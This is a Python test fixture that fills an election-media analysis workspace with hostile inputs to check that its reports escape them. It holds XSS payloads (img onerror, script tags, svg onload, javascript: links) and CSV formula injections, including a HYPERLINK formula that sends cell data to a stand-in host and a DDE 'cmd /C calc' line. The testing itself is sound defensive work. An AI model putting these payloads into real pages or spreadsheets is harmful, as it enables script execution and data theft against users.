"""A workspace whose data carries script payloads in every field that reaches the report: post
texts, page and account names, handles, URLs and links (so link domains), hashtags, actor names
and aliases, account URLs, period names, imported file names, election and candidate names, and
the project name. Each payload, if it ever ran, would set `data-xss-<field>` on <html>; each
carries its field's tag so a test can check the field really reached the report (escaped)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from shailoo.actors import import_registry
from shailoo.store.loader import import_file
from shailoo.store.workspace import init_workspace

RUN = "document.documentElement.setAttribute('data-xss-{t}','ran')"


def payload(tag: str) -> str:
    """Markup that runs `RUN` in several ways: a tag with a handler, a script element, a broken-out
    attribute, SVG, and a closing of the SVG <title> it may sit in."""
    run = RUN.format(t=tag)
    return (f'<img src=x onerror="{run}">'
            f"<script>{run}</script>"
            f'" onmouseover="{run}" \' autofocus onfocus=\'{run}\' '
            f'</title><svg onload="{run}"></svg>{tag}=HYPERLINK("http://e.vil/?"&A1,"x")')


def file_payload(tag: str) -> str:
    """A payload that can be a file name (no '/')."""
    return f"<img src=x onerror={RUN.format(t=tag)}> {tag}"


FIELDS = ("project", "page", "handle", "message", "hashtag", "url", "link", "actor", "alias",
          "account_url", "period", "file", "candidate", "election")

HEADER = ["Page Name", "User Name", "Facebook Id", "Page Category", "Likes at Posting", "Followers at Posting",
          "Post Created", "Type", "Likes", "Comments", "Shares", "Love", "Wow", "Haha", "Sad", "Angry", "Care",
          "Post Views", "Total Views", "URL", "Message", "Link"]


def build_hostile(path: Path):
    src = path.parent / f"{path.name}-inputs"
    src.mkdir(parents=True)
    ws = init_workspace(path, project=payload("project"))

    with open(src / "registry.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name", "category", "platform", "account_id", "handle", "url", "aliases"])
        w.writerow([payload("actor"), "candidate", "facebook", "111", "japarov",
                    f"javascript:{RUN.format(t='account_url')}", payload("alias")])
        w.writerow(["Kloop", "media", "facebook", "555", "kloop", "", ""])
    import_registry(ws, src / "registry.csv")

    message = (payload("message") + " #" + "xss<b>hashtag</b>"
               + " https://evil.example/<script>link</script> javascript:alert(1)")
    rows = [
        [payload("page"), payload("handle"), "111", "POLITICIAN", "", "10000", "2020-12-16 10:00:00 KGT",
         "Link", "100", "20", "5", "1", "0", "0", "0", "0", "0", "1000", "1000",
         "https://www.facebook.com/111/posts/1001", message, f"javascript:{RUN.format(t='link')}"],
        [payload("page"), payload("handle"), "111", "POLITICIAN", "", "10000", "2020-12-17 10:00:00 KGT",
         "Link", "50", "2", "1", "0", "0", "0", "0", "0", "0", "0", "0",
         "https://www.facebook.com/111/posts/1002", "=1+1 " + payload("hashtag") + " #выборы",
         "https://xn--<img src=x onerror=alert(1)>.kg/\"onmouseover=alert(1)"],
        ["Kloop", "kloop", "555", "MEDIA", "", "5000", "2020-12-18 10:00:00 KGT", "Status", "10", "1", "0",
         "0", "0", "0", "0", "0", "0", "0", "0", "https://www.facebook.com/555/posts/5003?q=" + payload("url"),
         "\t=cmd|' /C calc'!A0 " + payload("url"), "  javascript:alert(1)"],
        ["Kloop", "kloop", "555", "MEDIA", "", "5000", "2020-12-19 10:00:00 KGT", "Status", "7", "1", "0",
         "0", "0", "0", "0", "0", "0", "0", "0", "https://www.facebook.com/555/posts/5002",
         "\r-2+3 " + payload("link"), "//evil.example/x"],
        [payload("page"), payload("handle"), "999", "PERSON", "", "", "2020-12-20 10:00:00 KGT", "Status", "3", "0",
         "0", "0", "0", "0", "0", "0", "0", "0", "0", "https://www.facebook.com/999/posts/9001", "＝1+1 @SUM(A1)",
         "https://ok.example/a"],
    ]
    export = src / (file_payload("file") + " 2021-01-02-12-00-00-KGT.csv")
    with open(export, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows(rows)
    import_file(ws, export)

    ws.add_period(payload("period") + " a", date(2020, 12, 1), date(2020, 12, 16))
    ws.add_period(payload("period") + " b", date(2020, 12, 17), date(2021, 1, 9))

    from shailoo.analysis.results import import_results

    with open(src / "results.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["candidate", "votes", "share"])
        w.writerow([payload("actor"), "1000", "79.2"])
        w.writerow([payload("candidate"), "100", "6.8"])
    import_results(ws, src / "results.csv", election=payload("election"))
    return ws
